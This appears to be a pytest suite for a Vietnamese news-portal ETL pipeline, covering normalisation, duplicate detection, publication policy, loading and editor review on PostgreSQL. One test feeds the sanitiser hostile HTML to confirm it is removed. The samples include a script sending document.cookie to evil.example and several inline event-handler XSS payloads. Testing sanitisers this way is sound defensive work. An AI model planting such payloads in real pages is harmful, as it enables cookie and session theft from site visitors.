@@ -1,0 +1,668 @@
+"""Processing stage on a real PostgreSQL: normalise → dedup → policy → load, review, quality.
+
+Staged rows are inserted directly into staging.item with Vietnamese text: the real Báo Đồng Nai
+seed article (shared/seed) for republications, and the replica's phrase-pool generator for
+distinct stories of the same register.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import html
+import json
+import random
+import time
+import unicodedata
+from datetime import datetime, timedelta
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import psycopg2
+import pytest
+
+from portal_etl.db.staging import sync_sources
+from portal_etl.pipeline.process import (
+    apply_policy,
+    check_quality,
+    deduplicate,
+    load_articles,
+    normalize_items,
+    process_interval,
+    review,
+)
+from portal_etl.pipeline.process.policy import decide
+from portal_etl.registry import load_registry
+from portal_etl.replica.textgen import TextGen
+
+TZ = ZoneInfo("Asia/Ho_Chi_Minh")
+REG = load_registry()
+BASES = {
+    "dongnai_party": "https://tinhuydongnai.example.vn",
+    "dongnai_gov": "https://dongnai.gov.vn",
+    "baodongnai": "https://baodongnai.com.vn",
+}
+PROCESS_TABLES = (
+    "integration.article_history", "integration.article_source", "integration.article",
+    "integration.load_batch", "process.pending", "process.review_audit", "process.decision",
+    "process.item_story", "process.dup_edge", "process.lsh_band", "process.normalized_item",
+)  # fmt: skip
+
+_SEED_DIRS = [Path(__file__).resolve().parents[2] / "shared" / "seed", Path("/work/shared/seed")]
+
+
+def _seed() -> tuple[str, str, list[str]]:
+    for d in _SEED_DIRS:
+        path = d / "bao-dong-nai-2024-05-28.txt"
+        if path.exists():
+            lines = path.read_text(encoding="utf-8").split("\n")
+            return lines[3], lines[8], [lines[i - 1] for i in (14, 16, 18, 23, 25, 30, 32, 34)]
+    pytest.skip("seed article not found")
+
+
+SEED_TITLE, SEED_SAPO, SEED_PARAS = _seed()
+_GEN: list[TextGen] = []  # reset by the db fixture: each test draws the same texts whatever ran before
+
+
+def distinct_story(when: datetime, topic: str = "politics", lo: int = 150, hi: int = 260):
+    c = _GEN[0].content(topic, when, lo, hi)
+    return c.title, "(ĐN)- " + c.sapo_core, c.paragraphs
+
+
+def local(*args: int) -> datetime:
+    return datetime(*args, tzinfo=TZ)
+
+
+# --- staging helpers ------------------------------------------------------------------------------
+
+
+def connect(dsn: str):
+    return psycopg2.connect(dsn, options="-c timezone=UTC")
+
+
+@pytest.fixture
+def db(clean_db: str) -> str:
+    _GEN[:] = [TextGen(random.Random(20240528))]
+    conn = connect(clean_db)
+    with conn, conn.cursor() as cur:
+        cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
+        sync_sources(cur, REG)
+    conn.close()
+    return clean_db
+
+
+def stage(
+    dsn: str,
+    source_id: str,
+    path: str,
+    *,
+    title: str,
+    body: list[str],
+    published: datetime,
+    section: str,
+    sapo: str = "",
+    native_id: str | None = None,
+    item_type: str | None = None,
+    video_url: str | None = None,
+    body_html: str | None = None,
+    canonical: str | None = None,
+    language: str = "vi",
+) -> int:
+    page_url = BASES[source_id] + path
+    body_text = "\n\n".join(body)
+    if body_html is None:
+        body_html = "".join(f"<p>{html.escape(p)}</p>" for p in body)
+    words = len(body_text.split())
+    fields = {
+        "canonical_url": canonical or page_url, "native_id": native_id, "title": title, "sapo": sapo,
+        "body_text": body_text, "body_html": body_html, "published_at": published.isoformat(),
+        "section": section, "item_type": item_type or ("bai" if words >= 500 else "tin"),
+        "language": language, "video_url": video_url,
+    }  # fmt: skip
+    content_hash = hashlib.sha256(json.dumps(fields, sort_keys=True).encode()).hexdigest()
+    conn = connect(dsn)
+    with conn, conn.cursor() as cur:
+        cur.execute(
+            """INSERT INTO staging.item (source_id, page_url, status, canonical_url, native_id, title, sapo,
+                   body_text, body_html, published_at, section, item_type, language, video_url, content_hash)
+               VALUES (%s, %s, 'staged', %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s)
+               ON CONFLICT (source_id, page_url) DO UPDATE SET canonical_url = EXCLUDED.canonical_url,
+                 native_id = EXCLUDED.native_id, title = EXCLUDED.title, sapo = EXCLUDED.sapo,
+                 body_text = EXCLUDED.body_text, body_html = EXCLUDED.body_html,
+                 published_at = EXCLUDED.published_at, section = EXCLUDED.section,
+                 item_type = EXCLUDED.item_type, content_hash = EXCLUDED.content_hash
+               RETURNING item_id""",
+            (source_id, page_url, fields["canonical_url"], native_id, title, sapo, body_text, body_html,
+             published, section, fields["item_type"], language, video_url, content_hash),
+        )
+        item_id = cur.fetchone()[0]
+    conn.close()
+    return item_id
+
+
+def rows(dsn: str, sql: str, *params) -> list[tuple]:
+    conn = connect(dsn)
+    try:
+        with conn.cursor() as cur:
+            cur.execute(sql, params)
+            return cur.fetchall()
+    finally:
+        conn.close()
+
+
+def run(dsn: str, start: datetime, end: datetime, run_id: str = "r1") -> dict:
+    return process_interval(start, end, dag_id="process_test", run_id=run_id, dsn=dsn, registry=REG)
+
+
+MAY = (local(2024, 5, 1), local(2024, 6, 1))
+
+
+def decision(dsn: str, item_id: int) -> tuple:
+    return rows(dsn, "SELECT outcome, reason, decided_by FROM process.decision WHERE item_id = %s", item_id)[0]
+
+
+def story_of(dsn: str, item_id: int) -> str:
+    return rows(dsn, "SELECT story_key FROM process.item_story WHERE item_id = %s", item_id)[0][0]
+
+
+def edge(dsn: str, a: int, b: int) -> tuple | None:
+    got = rows(dsn, "SELECT reason, similarity FROM process.dup_edge WHERE item_a = %s AND item_b = %s",
+               min(a, b), max(a, b))
+    return got[0] if got else None
+
+
+def republished_paragraphs() -> list[str]:
+    """The seed republished by another channel: one sentence dropped, old tone placement."""
+    paras = list(SEED_PARAS)
+    paras[6] = paras[6].split(". ")[0] + "."
+    return [p.replace("Thủy", "Thuỷ").replace("hòa", "hoà") for p in paras]
+
+
+# --- normalisation --------------------------------------------------------------------------------
+
+
+def test_normalisation_nfc_eth_dateline_and_tone_variants(db: str) -> None:
+    nfd_html = unicodedata.normalize("NFD", "<p>Đồng Nai hòa nhịp phát triển\u200b kinh tế.</p>")
+    a = stage(db, "dongnai_gov", "/vi/news/kinh-te/hoa-nhip-101.html",
+              title="\u00d0ồng Nai h\u00f2a nhịp \u2013 phát triển\u200b &amp; hội nhập",
+              sapo="(\u00d0N) – Sáng 3-5, &quot;hội nghị&quot; được tổ chức.", body=SEED_PARAS,
+              body_html=nfd_html, published=local(2024, 5, 3, 9), section="kinh-te", native_id="101")
+    # same channel, same local day, the title in the new tone style and another dash: same story
+    b = stage(db, "dongnai_gov", "/vi/news/kinh-te/hoa-nhip-102.html",
+              title="Đồng Nai hoà nhịp - phát triển & hội nhập", body=SEED_PARAS[:4],
+              published=local(2024, 5, 3, 23, 50), section="kinh-te", native_id="102")
+    counts = run(db, *MAY)
+    assert counts["normalized"] == 2 and counts["new"] == 1
+    (title, sapo, dateline, body_html, words), = rows(
+        db, "SELECT title_clean, sapo_clean, dateline, body_html_sanitized, word_count "
+            "FROM process.normalized_item WHERE item_id = %s", a)
+    assert title == "Đồng Nai hòa nhịp – phát triển & hội nhập"
+    assert unicodedata.is_normalized("NFC", title) and "\u00d0" not in title and "\u200b" not in title
+    assert (dateline, sapo) == ("ĐN", 'Sáng 3-5, "hội nghị" được tổ chức.')
+    assert unicodedata.is_normalized("NFC", body_html) and "\u200b" not in body_html
+    # words hold a letter or digit (the contract's count): the seed's lone "-" is not one
+    assert words == sum(len(p.split()) for p in SEED_PARAS) - 1
+    assert edge(db, a, b)[0] == "same_title_day"
+    assert story_of(db, a) == story_of(db, b)
+
+
+# --- dedup layers ---------------------------------------------------------------------------------
+
+
+def test_republished_story_one_article_primary_earliest(db: str) -> None:
+    bdn = stage(db, "baodongnai", "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d", title=SEED_TITLE,
+                sapo=SEED_SAPO, body=SEED_PARAS, published=local(2024, 5, 28, 20, 13), section="chinh-tri",
+                native_id="3f1391d")
+    gov = stage(db, "dongnai_gov", "/vi/news/thoi-su-chinh-tri/tang-cuong-lien-ket-5021.html",
+                title=SEED_TITLE.replace("Tăng cường", "Tăng cường việc") + ".",
+                sapo=SEED_SAPO.replace("(ĐN)-", "(ĐCSVN) -"), body=republished_paragraphs(),
+                published=local(2024, 5, 29, 8, 0), section="thoi-su-chinh-tri", native_id="5021")
+    run(db, *MAY)
+    reason, sim = edge(db, bdn, gov)
+    assert reason == "near_duplicate" and sim >= 0.7
+    arts = rows(db, "SELECT story_key, primary_source_id, primary_item_id, story_month, title FROM integration.article")
+    assert len(arts) == 1
+    key, src, primary, month, title = arts[0]
+    assert (src, primary, month, title) == ("baodongnai", bdn, "2024-05", SEED_TITLE)
+    srcs = rows(db, "SELECT item_id, is_primary, outcome FROM integration.article_source WHERE story_key = %s "
+                    "ORDER BY item_id", key)
+    assert srcs == sorted([(bdn, True, "approved"), (gov, False, "approved")])
+    assert key == min(hashlib.sha1(f"{s}|{u}".encode()).hexdigest()[:16] for s, u in rows(
+        db, "SELECT source_id, canonical_url FROM staging.item"))
+
+
+def test_primary_tie_goes_to_registry_channel_order(db: str) -> None:
+    when = local(2024, 5, 10, 15, 30)
+    title, sapo, body = distinct_story(when)
+    bdn = stage(db, "baodongnai", "/chinh-tri/202405/story-a1b2c3d", title=title, sapo=sapo, body=body,
+                published=when, section="chinh-tri")
+    gov = stage(db, "dongnai_gov", "/vi/news/thoi-su-chinh-tri/story-7001.html", title=title, sapo=sapo,
+                body=body, published=when, section="thoi-su-chinh-tri")
+    party = stage(db, "dongnai_party", "/news/tin-hoat-dong/story-88.html", title=title, sapo=sapo,
+                  body=body[:-1] or body, published=when + timedelta(minutes=1), section="tin-hoat-dong")
+    run(db, *MAY)
+    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(gov,)]  # gov before baodongnai
+    assert {story_of(db, i) for i in (bdn, gov, party)} == {story_of(db, gov)}
+
+
+def test_same_url_and_same_native_id_merge_with_reason(db: str) -> None:
+    title, sapo, body = distinct_story(local(2024, 5, 5))
+    canonical = BASES["dongnai_gov"] + "/vi/news/kinh-te/khu-cong-nghiep-4411.html"
+    a = stage(db, "dongnai_gov", "/vi/news/kinh-te/khu-cong-nghiep-4411.html", title=title, sapo=sapo, body=body,
+              published=local(2024, 5, 5, 9), section="kinh-te", native_id="4411")
+    b = stage(db, "dongnai_gov", "/vi/news/kinh-te/khu-cong-nghiep-4411.html?utm_source=zalo&zarsrc=30",
+              title=title + " (cập nhật)", sapo=sapo, body=body[:1], published=local(2024, 5, 6, 9),
+              section="kinh-te", canonical=canonical + "?utm_source=zalo", native_id=None)
+    # legacy SharePoint URL of the same article: another URL, the same native id
+    c = stage(db, "dongnai_gov", "/Pages/newsdetail.aspx?NewsId=4411&CatId=2", title="Bản cũ: " + title,
+              sapo=sapo, body=body[:1], published=local(2024, 5, 7, 9), section="kinh-te", native_id="4411")
+    run(db, *MAY)
+    assert edge(db, a, b)[0] == "same_url"
+    assert edge(db, a, c)[0] == "same_native_id"
+    assert len({story_of(db, i) for i in (a, b, c)}) == 1
+    assert rows(db, "SELECT count(*) FROM integration.article") == [(1,)]
+    assert rows(db, "SELECT count(*) FROM integration.article_source") == [(3,)]
+
+
+def test_same_title_only_merges_on_the_same_local_day(db: str) -> None:
+    title = "Hội nghị sơ kết công tác xây dựng Đảng 6 tháng đầu năm"
+    _, _, body1 = distinct_story(local(2024, 5, 14))
+    _, _, body2 = distinct_story(local(2024, 5, 14))
+    _, _, body3 = distinct_story(local(2024, 5, 15))
+    a = stage(db, "baodongnai", "/chinh-tri/202405/hoi-nghi-1a2b3c4", title=title, body=body1,
+              published=local(2024, 5, 14, 7), section="chinh-tri")
+    b = stage(db, "baodongnai", "/chinh-tri/202405/hoi-nghi-so-ket-1a2b3c5", title=title.upper() + "!",
+              body=body2, published=local(2024, 5, 14, 23, 59), section="chinh-tri")
+    c = stage(db, "baodongnai", "/chinh-tri/202405/hoi-nghi-1a2b3c6", title=title, body=body3,
+              published=local(2024, 5, 15, 0, 1), section="chinh-tri")
+    run(db, *MAY)
+    assert edge(db, a, b)[0] == "same_title_day"
+    assert edge(db, a, c) is None and edge(db, b, c) is None
+    assert story_of(db, a) == story_of(db, b) != story_of(db, c)
+
+
+def grey_pair(dsn: str) -> tuple[int, int]:
+    extra = distinct_story(local(2024, 5, 20), lo=300, hi=400)[2]
+    early = stage(dsn, "baodongnai", "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d", title=SEED_TITLE,
+                  sapo=SEED_SAPO, body=SEED_PARAS, published=local(2024, 5, 28, 20, 13), section="chinh-tri")
+    late = stage(dsn, "dongnai_gov", "/vi/news/thoi-su-chinh-tri/lien-ket-thong-tin-6001.html", title=SEED_TITLE,
+                 sapo=SEED_SAPO, body=SEED_PARAS[:6] + extra[:2], published=local(2024, 5, 30, 10),
+                 section="thoi-su-chinh-tri")
+    return early, late
+
+
+def test_grey_zone_pair_needs_review_and_does_not_merge(db: str) -> None:
+    early, late = grey_pair(db)
+    run(db, *MAY)
+    reason, sim = edge(db, early, late)
+    assert reason == "review_grey_zone" and 0.5 <= sim < 0.7
+    assert story_of(db, early) != story_of(db, late)
+    assert decision(db, early) == ("approved", None, "policy")
+    assert decision(db, late) == ("needs_review", "possible_duplicate", "policy")
+    queue = review.list_queue(dsn=db)
+    assert [(q["item_id"], q["reason"]) for q in queue] == [(late, "possible_duplicate")]
+    shown = review.show(late, dsn=db)
+    assert [(c["item_id"], c["reason"]) for c in shown["candidates"]] == [(early, "review_grey_zone")]
+    assert shown["candidates"][0]["similarity"] == pytest.approx(sim, abs=1e-4)
+    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(early,)]
+
+
+# --- policy ---------------------------------------------------------------------------------------
+
+
+def test_policy_reasons(db: str) -> None:
+    long_body = distinct_story(local(2023, 3, 28))[2]
+    short = ["Sáng 5-5, UBND tỉnh tổ chức hội nghị triển khai nhiệm vụ quý II năm 2024 với sự tham dự của "
+             "lãnh đạo các sở, ngành."]
+    video_html = '<p>Clip.</p><iframe src="https://www.youtube.com/embed/abc123"></iframe>'
+    cases = {
+        "not_integrated": stage(db, "dongnai_gov", "/vi/news/thong-bao/tb-1.html", title="Thông báo lịch tiếp dân",
+                                body=long_body, published=local(2023, 3, 1), section="thong-bao"),
+        "before_window": stage(db, "dongnai_gov", "/vi/news/kinh-te/truoc-2.html", title="Tin trước ngày tích hợp",
+                               body=long_body, published=local(2023, 3, 28, 23, 59), section="kinh-te"),
+        "window_start": stage(db, "dongnai_gov", "/vi/news/kinh-te/dung-ngay-3.html", title="Tin đúng ngày tích hợp",
+                              body=distinct_story(local(2023, 3, 29))[2], published=local(2023, 3, 29, 0, 0),
+                              section="kinh-te"),
+        "too_short": stage(db, "baodongnai", "/xa-hoi/202303/tin-ngan-1111111", title="Tin ngắn về hội nghị",
+                           body=short, published=local(2023, 3, 30), section="xa-hoi"),
+        "video": stage(db, "dongnai_gov", "/vi/news/video-clip/clip-4.html", title="Video: Đồng Nai hôm nay",
+                       body=["Clip."], body_html=video_html, published=local(2023, 3, 30, 8), section="video-clip",
+                       item_type="video"),
+        "unknown_section": stage(db, "baodongnai", "/tin-moi/202303/tin-moi-2222222", title="Chuyên mục lạ",
+                                 body=distinct_story(local(2023, 3, 30))[2], published=local(2023, 3, 30, 9),
+                                 section="tin-moi"),
+        "unknown_short": stage(db, "baodongnai", "/tin-moi/202303/tin-moi-3333333", title="Chuyên mục lạ, ngắn",
+                               body=short, published=local(2023, 3, 30, 10), section="tin-moi"),
+        "language": stage(db, "baodongnai", "/chinh-tri/202303/english-4444444", title="Dong Nai news in English",
+                          body=distinct_story(local(2023, 3, 30))[2], published=local(2023, 3, 30, 11),
+                          section="chinh-tri", language="en"),
+    }
+    run(db, local(2023, 3, 1), local(2023, 4, 1))
+    got = {name: decision(db, item)[:2] for name, item in cases.items()}
+    assert got == {
+        "not_integrated": ("rejected", "section_not_integrated"),
+        "before_window": ("rejected", "before_window"),
+        "window_start": ("approved", None),
+        "too_short": ("rejected", "too_short"),
+        "video": ("approved", None),
+        "unknown_section": ("needs_review", "unknown_section"),
+        "unknown_short": ("rejected", "too_short"),
+        "language": ("needs_review", "language"),
+    }
+    integrated = {r[0] for r in rows(db, "SELECT primary_item_id FROM integration.article")}
+    assert integrated == {cases["window_start"], cases["video"]}
+    # a staged item always has a date (001 CHECK); the rule itself:
+    item = {"source_id": "baodongnai", "section": "chinh-tri", "published_at": None, "word_count": 500,
+            "playable_video": False, "language": "vi"}
+    verdict = decide(item, REG.get("baodongnai"), [])
+    assert (verdict.outcome, verdict.reason) == ("needs_review", "no_date")
+    verdict = decide(item, None, [])
+    assert (verdict.outcome, verdict.reason) == ("needs_review", "unknown_section")
+
+
+def test_hostile_html_never_reaches_the_store(db: str) -> None:
+    hostile = (
+        '<p onclick="steal()">Bài viết <a href="javascript:alert(1)">xem thêm</a></p>'
+        '<script>document.location="https://evil.example/?c="+document.cookie</script>'
+        '<img src="x.jpg" onerror="alert(1)"><iframe src="https://evil.example/frame"></iframe>'
+        '<a href="/vi/news/kinh-te/bai-khac-1.html">bài khác</a><svg onload="alert(2)"></svg>'
+        '<p style="x" data-x="1">&lt;script&gt;alert(3)&lt;/script&gt;</p>'
+    )
+    item = stage(db, "dongnai_gov", "/vi/news/kinh-te/bai-doc-hai-9.html", title="Bài có mã độc",
+                 body=SEED_PARAS, body_html=hostile + "".join(f"<p>{p}</p>" for p in SEED_PARAS),
+                 published=local(2024, 5, 2, 10), section="kinh-te")
+    run(db, *MAY)
+    (body_html,), = rows(db, "SELECT body_html FROM integration.article WHERE primary_item_id = %s", item)
+    lowered = body_html.lower()
+    for bad in ("<script", "onerror", "onclick", "onload", "javascript:", "evil.example", "<svg", "style="):
+        assert bad not in lowered, bad
+    assert 'href="https://dongnai.gov.vn/vi/news/kinh-te/bai-khac-1.html"' in body_html
+    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in body_html
+    assert check_quality(db) == []
+
+
+# --- idempotence and order independence -----------------------------------------------------------
+
+
+def integration_dump(dsn: str) -> dict[str, list[tuple]]:
+    return {
+        "article": rows(dsn, "SELECT xmin::text, a.* FROM integration.article a ORDER BY story_key"),
+        "article_source": rows(dsn, "SELECT xmin::text, s.* FROM integration.article_source s ORDER BY 2, 3"),
+        "article_history": rows(dsn, "SELECT xmin::text, h.* FROM integration.article_history h ORDER BY 2"),
+    }
+
+
+def two_month_dataset(dsn: str) -> dict[str, int]:
+    ids: dict[str, int] = {}
+    # S1: a story spanning the month boundary (primary on 31 March, republished on 1 April)
+    ids["s1_bdn"] = stage(dsn, "baodongnai", "/chinh-tri/202403/lien-ket-thong-tin-a000001", title=SEED_TITLE,
+                          sapo=SEED_SAPO, body=SEED_PARAS, published=local(2024, 3, 31, 23, 30),
+                          section="chinh-tri")
+    ids["s1_gov"] = stage(dsn, "dongnai_gov", "/vi/news/thoi-su-chinh-tri/lien-ket-thong-tin-9001.html",
+                          title=SEED_TITLE + ".", sapo=SEED_SAPO.replace("(ĐN)-", "(ĐCSVN) -"),
+                          body=republished_paragraphs(), published=local(2024, 4, 1, 8), section="thoi-su-chinh-tri")
+    # S2: three channels within the ±7-day window; the party copy is in a non-integrated section
+    t, s, b = distinct_story(local(2024, 3, 20), lo=200, hi=300)
+    ids["s2_party"] = stage(dsn, "dongnai_party", "/news/van-ban/s2-11.html", title=t, sapo=s, body=b,
+                            published=local(2024, 3, 27, 7), section="van-ban")
+    ids["s2_gov"] = stage(dsn, "dongnai_gov", "/vi/news/thoi-su-chinh-tri/s2-9002.html", title=t, sapo=s, body=b,
+                          published=local(2024, 3, 28, 9), section="thoi-su-chinh-tri")
+    ids["s2_bdn"] = stage(dsn, "baodongnai", "/chinh-tri/202404/s2-a000002", title=t, sapo=s, body=b[1:] + b[:1],
+                          published=local(2024, 4, 2, 9), section="chinh-tri")
+    # S3: grey zone with S1's March original (and same channel as S1's copy: no LSH pair there)
+    extra = distinct_story(local(2024, 3, 30), lo=300, hi=400)[2]
+    ids["s3_gov"] = stage(dsn, "dongnai_gov", "/vi/news/thoi-su-chinh-tri/s3-9003.html",
+                          title=SEED_TITLE + " (kỳ 2)", sapo=SEED_SAPO, body=SEED_PARAS[:6] + extra[:2],
+                          published=local(2024, 4, 3, 9), section="thoi-su-chinh-tri")
+    # S4: same title, same day, same channel, in April
+    t4, s4, b4 = distinct_story(local(2024, 4, 12))
+    ids["s4_a"] = stage(dsn, "baodongnai", "/kinh-te/202404/s4-a000004", title=t4, sapo=s4, body=b4,
+                        published=local(2024, 4, 12, 8), section="kinh-te")
+    ids["s4_b"] = stage(dsn, "baodongnai", "/kinh-te/202404/s4-a000005", title=t4.lower(), sapo=s4, body=b4[:2],
+                        published=local(2024, 4, 12, 17), section="kinh-te")
+    # singles in both months on every channel
+    for month in (3, 4):
+        for n, (source_id, section, path) in enumerate([
+            ("dongnai_party", "xay-dung-dang", "/news/xay-dung-dang/single-{m}-{n}.html"),
+            ("dongnai_gov", "van-hoa-xa-hoi", "/vi/news/van-hoa-xa-hoi/single-{m}-{n}.html"),
+            ("baodongnai", "van-hoa", "/van-hoa/20240{m}/single-{m}-{n}"),
+            ("baodongnai", "the-thao", "/the-thao/20240{m}/single-{m}-{n}"),
+        ]):
+            when = local(2024, month, 3 + 5 * n, 10)
+            t, s, b = distinct_story(when, topic="culture")
+            ids[f"single_{month}_{n}"] = stage(dsn, source_id, path.format(m=month, n=n), title=t, sapo=s, body=b,
+                                               published=when, section=section)
+    return ids
+
+
+MARCH = (local(2024, 3, 1), local(2024, 4, 1))
+APRIL = (local(2024, 4, 1), local(2024, 5, 1))
+
+
+def test_rerun_leaves_the_store_byte_identical(db: str) -> None:
+    two_month_dataset(db)
+    run(db, *MARCH, run_id="m1")
+    first = run(db, *APRIL, run_id="a1")
+    before = integration_dump(db)
+    again = run(db, *APRIL, run_id="a2")
+    run(db, *MARCH, run_id="m2")
+    assert integration_dump(db) == before
+    assert again["normalized"] == 0 and again["new"] == again["updated"] == again["removed"] == 0
+    assert again["unchanged"] == first["new"] + first["unchanged"] + first["updated"] > 0
+    assert check_quality(db) == []
+
+
+def order_dump(dsn: str) -> dict[str, list[tuple]]:
+    cols = ("story_key, title, sapo, dateline, body_html, body_text, published_at, story_month, item_type, section, "
+            "author, language, primary_source_id, primary_item_id, primary_url, content_hash")
+    return {
+        "article": rows(dsn, f"SELECT {cols} FROM integration.article ORDER BY story_key"),
+        "article_source": rows(dsn, "SELECT * FROM integration.article_source ORDER BY source_id, url"),
+        "item_story": rows(dsn, "SELECT item_id, story_key FROM process.item_story ORDER BY item_id"),
+        "dup_edge": rows(dsn, "SELECT item_a, item_b, reason, similarity FROM process.dup_edge ORDER BY 1, 2"),
+        "decision": rows(dsn, "SELECT item_id, outcome, reason, decided_by, note FROM process.decision ORDER BY 1"),
+    }
+
+
+def test_processing_order_does_not_change_the_result(db: str) -> None:
+    ids = two_month_dataset(db)
+    run(db, *MARCH)
+    run(db, *APRIL)
+    forward = order_dump(db)
+    # start again from the same staging rows, months in the other order
+    conn = connect(db)
+    with conn, conn.cursor() as cur:
+        cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
+    conn.close()
+    counts = run(db, *APRIL)
+    assert counts["new"] > 0
+    # alone, April makes the republication of S1 its own story, primary on gov
+    assert rows(db, "SELECT primary_item_id, story_month FROM integration.article a JOIN process.item_story s "
+                    "USING (story_key) WHERE s.item_id = %s", ids["s1_gov"]) == [(ids["s1_gov"], "2024-04")]
+    backward_counts = run(db, *MARCH)
+    # March joins it to its original: the article is re-keyed (removed + new) or rewritten in place
+    assert backward_counts["removed"] + backward_counts["updated"] >= 2
+    assert order_dump(db) == forward
+    s1 = story_of(db, ids["s1_bdn"])
+    assert story_of(db, ids["s1_gov"]) == s1
+    assert rows(db, "SELECT primary_item_id, story_month FROM integration.article WHERE story_key = %s",
+                s1) == [(ids["s1_bdn"], "2024-03")]
+    s2 = story_of(db, ids["s2_gov"])
+    assert {story_of(db, ids["s2_party"]), story_of(db, ids["s2_bdn"])} == {s2}
+    assert rows(db, "SELECT primary_item_id FROM integration.article WHERE story_key = %s", s2) == [(ids["s2_gov"],)]
+    assert decision(db, ids["s2_party"])[:2] == ("rejected", "section_not_integrated")
+    assert rows(db, "SELECT count(*) FROM integration.article_source WHERE story_key = %s", s2) == [(3,)]
+    assert decision(db, ids["s3_gov"])[:2] == ("needs_review", "possible_duplicate")
+    assert edge(db, ids["s1_bdn"], ids["s3_gov"])[0] == "review_grey_zone"
+    assert story_of(db, ids["s4_a"]) == story_of(db, ids["s4_b"])
+    assert check_quality(db) == []
+
+
+def test_stages_called_separately_match_process_interval(db: str) -> None:
+    two_month_dataset(db)
+    run(db, *MARCH)
+    run(db, *APRIL)
+    together = order_dump(db)
+    conn = connect(db)
+    with conn, conn.cursor() as cur:
+        cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
+    conn.close()
+    for start, end in (MARCH, APRIL):
+        kw = {"dag_id": "process_test", "run_id": "sep", "dsn": db, "registry": REG}
+        normalize_items(start, end, **kw)
+        deduplicate(start, end, **kw)
+        apply_policy(start, end, **kw)
+        load_articles(start, end, **kw)
+    assert order_dump(db) == together
+    assert rows(db, "SELECT count(*) FROM process.pending") == [(0,)]
+
+
+def test_changed_and_withdrawn_items_update_the_store(db: str) -> None:
+    when = local(2024, 5, 8, 9)
+    t, s, b = distinct_story(when)
+    item = stage(db, "dongnai_gov", "/vi/news/kinh-te/thay-doi-1.html", title=t, sapo=s, body=b, published=when,
+                 section="kinh-te")
+    other = stage(db, "dongnai_gov", "/vi/news/kinh-te/khac-2.html", title=SEED_TITLE, body=SEED_PARAS,
+                  published=when, section="kinh-te")
+    run(db, *MAY)
+    (key, xmin_other), = rows(db, "SELECT story_key, xmin::text FROM integration.article WHERE primary_item_id = %s",
+                              other)
+    stage(db, "dongnai_gov", "/vi/news/kinh-te/thay-doi-1.html", title=t + " (cập nhật)", sapo=s, body=b,
+          published=when, section="kinh-te")
+    # an interval that does not contain the item: changed content is still picked up
+    counts = run(db, local(2024, 7, 1), local(2024, 8, 1), run_id="later")
+    assert (counts["normalized"], counts["updated"], counts["new"]) == (1, 1, 0)
+    assert rows(db, "SELECT title FROM integration.article WHERE primary_item_id = %s", item) == [(t + " (cập nhật)",)]
+    assert rows(db, "SELECT change, previous->>'title' FROM integration.article_history") == [("updated", t)]
+    assert rows(db, "SELECT xmin::text FROM integration.article WHERE story_key = %s", key) == [(xmin_other,)]
+    conn = connect(db)
+    with conn, conn.cursor() as cur:
+        cur.execute("UPDATE staging.item SET status = 'parse_error', parse_error = 'layout_unknown', "
+                    "content_hash = 'x' WHERE item_id = %s", (item,))
+    conn.close()
+    counts = run(db, *MAY, run_id="withdraw")
+    assert counts["removed"] == 1 and counts["items_withdrawn"] == 1
+    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(other,)]
+    assert rows(db, "SELECT change FROM integration.article_history ORDER BY history_id") == [("updated",),
+                                                                                              ("removed",)]
+    assert check_quality(db) == []
+
+
+# --- review ---------------------------------------------------------------------------------------
+
+
+def test_review_approve_reject_reopen(db: str) -> None:
+    early, late = grey_pair(db)
+    run(db, *MAY)
+    merged_key = min(story_of(db, early), story_of(db, late))
+
+    result = review.approve(late, "Nguyễn Thu Hà", "cùng một tin, đăng lại", as_duplicate_of=early, dsn=db,
+                            registry=REG)
+    assert result["outcome"] == "approved" and result["integrated"]
+    assert edge(db, early, late)[0] == "editor_merge"
+    assert story_of(db, late) == story_of(db, early) == merged_key
+    assert rows(db, "SELECT item_id, is_primary FROM integration.article_source ORDER BY item_id") == sorted(
+        [(early, True), (late, False)])
+    assert review.list_queue(dsn=db) == []
+
+    # a later policy run keeps the editor's decision and merge
+    run(db, *MAY, run_id="again")
+    assert decision(db, late) == ("approved", None, "Nguyễn Thu Hà")
+    assert edge(db, early, late)[0] == "editor_merge"
+
+    review.reopen(late, "Nguyễn Thu Hà", "nhầm, cần xem lại", dsn=db, registry=REG)
+    assert decision(db, late) == ("needs_review", "possible_duplicate", "policy")
+    assert edge(db, early, late)[0] == "review_grey_zone"
+    assert rows(db, "SELECT count(*) FROM integration.article_source") == [(1,)]
+
+    review.reject(early, "Trần Minh", "trùng với bài đã tích hợp", dsn=db, registry=REG)
+    assert decision(db, early) == ("rejected", "editor", "Trần Minh")
+    assert rows(db, "SELECT count(*) FROM integration.article") == [(0,)]
+    assert rows(db, "SELECT change, (previous->>'primary_item_id')::bigint FROM integration.article_history "
+                    "ORDER BY history_id DESC LIMIT 1") == [("removed", early)]
+    # the later item is still flagged: its grey-zone partner is earlier, whatever its decision
+    review.approve(late, "Trần Minh", "tin riêng, không trùng", dsn=db, registry=REG)
+    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(late,)]
+
+    audit = rows(db, "SELECT item_id, action, reviewer, note, detail FROM process.review_audit ORDER BY audit_id")
+    assert [(a[0], a[1], a[2]) for a in audit] == [
+        (late, "approve", "Nguyễn Thu Hà"), (late, "reopen", "Nguyễn Thu Hà"),
+        (early, "reject", "Trần Minh"), (late, "approve", "Trần Minh")]
+    assert audit[0][4] == {"as_duplicate_of": early} and audit[1][4] == {"unmerged": [early]}
+    assert audit[0][3] == "cùng một tin, đăng lại"
+    shown = review.show(late, dsn=db)
+    assert [a["action"] for a in shown["audit"]] == ["approve", "reopen", "approve"]
+    assert shown["story"]["integrated"] is True
+    assert check_quality(db) == []
+    with pytest.raises(review.ReviewError):
+        review.reject(late, "policy", "x", dsn=db, registry=REG)
+    with pytest.raises(review.ReviewError):
+        review.reject(late, "Trần Minh", "x", reason="because", dsn=db, registry=REG)
+
+
+# --- quality --------------------------------------------------------------------------------------
+
+
